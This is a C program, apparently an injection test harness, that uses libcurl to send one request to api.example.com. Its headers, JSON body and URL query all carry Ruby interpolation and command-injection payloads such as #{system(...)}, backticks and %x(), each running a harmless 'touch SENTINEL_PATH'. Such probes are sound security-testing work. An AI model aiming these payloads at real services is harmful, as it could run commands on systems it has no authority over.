#include <curl/curl.h>
#include <stdio.h>
#include <string.h>

int main(void)
{
    CURL *curl = curl_easy_init();
    if (!curl)
        return 1;

    struct curl_slist *headers = NULL;
    headers = curl_slist_append(headers, "Content-Type: application/json");
    headers = curl_slist_append(headers, "Authorization: Bearer #{system(\"touch SENTINEL_PATH\")}");
    headers = curl_slist_append(headers, "X-Payload-0: #{system(\"touch SENTINEL_PATH\")}");
    headers = curl_slist_append(headers, "X-Payload-1: #{`touch SENTINEL_PATH`}");
    headers = curl_slist_append(headers, "X-Payload-2: #@ivar #@@cvar #$0 #$PROGRAM_NAME");
    headers = curl_slist_append(headers, "X-Payload-3: %x(touch SENTINEL_PATH)");
    headers = curl_slist_append(headers, "X-Payload-4: \"; system(\"touch SENTINEL_PATH\"); \"");

    const char *body =
        "{\n"
        "  \"values\": [\n"
        "    \"#{system(\\\"touch SENTINEL_PATH\\\")}\",\n"
        "    \"#{`touch SENTINEL_PATH`}\",\n"
        "    \"#@ivar #@@cvar #$0 #$PROGRAM_NAME\",\n"
        "    \"%x(touch SENTINEL_PATH)\",\n"
        "    \"\\\"; system(\\\"touch SENTINEL_PATH\\\"); \\\"\"\n"
        "  ],\n"
        "  \"keys\": {\n"
        "    \"#{system(\\\"touch SENTINEL_PATH\\\")}\": 0,\n"
        "    \"#{`touch SENTINEL_PATH`}\": 1,\n"
        "    \"#@ivar #@@cvar #$0 #$PROGRAM_NAME\": 2,\n"
        "    \"%x(touch SENTINEL_PATH)\": 3,\n"
        "    \"\\\"; system(\\\"touch SENTINEL_PATH\\\"); \\\"\": 4\n"
        "  },\n"
        "  \"nested\": {\n"
        "    \"deeper\": [\n"
        "      {\n"
        "        \"text\": \"#{system(\\\"touch SENTINEL_PATH\\\")} #{`touch SENTINEL_PATH`} #@ivar #@@cvar #$0 #$PROGRAM_NAME %x(touch SENTINEL_PATH) \\\"; system(\\\"touch SENTINEL_PATH\\\"); \\\"\"\n"
        "      }\n"
        "    ]\n"
        "  }\n"
        "}";

    curl_easy_setopt(curl, CURLOPT_URL, "https://api.example.com/v1/payloads?value0=%23%7Bsystem%28%22touch%20SENTINEL_PATH%22%29%7D&%23%7Bsystem%28%22touch%20SENTINEL_PATH%22%29%7D=key0&value1=%23%7B%60touch%20SENTINEL_PATH%60%7D&%23%7B%60touch%20SENTINEL_PATH%60%7D=key1&value2=%23%40ivar%20%23%40%40cvar%20%23%240%20%23%24PROGRAM_NAME&%23%40ivar%20%23%40%40cvar%20%23%240%20%23%24PROGRAM_NAME=key2&value3=%25x%28touch%20SENTINEL_PATH%29&%25x%28touch%20SENTINEL_PATH%29=key3&value4=%22%3B%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%22&%22%3B%20system%28%22touch%20SENTINEL_PATH%22%29%3B%20%22=key4");
    curl_easy_setopt(curl, CURLOPT_HTTPHEADER, headers);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
    curl_easy_setopt(curl, CURLOPT_POSTFIELDSIZE, (long)strlen(body));

    CURLcode res = curl_easy_perform(curl);
    if (res != CURLE_OK)
        fprintf(stderr, "curl: %s\n", curl_easy_strerror(res));

    curl_slist_free_all(headers);
    curl_easy_cleanup(curl);
    return res == CURLE_OK ? 0 : 1;
}
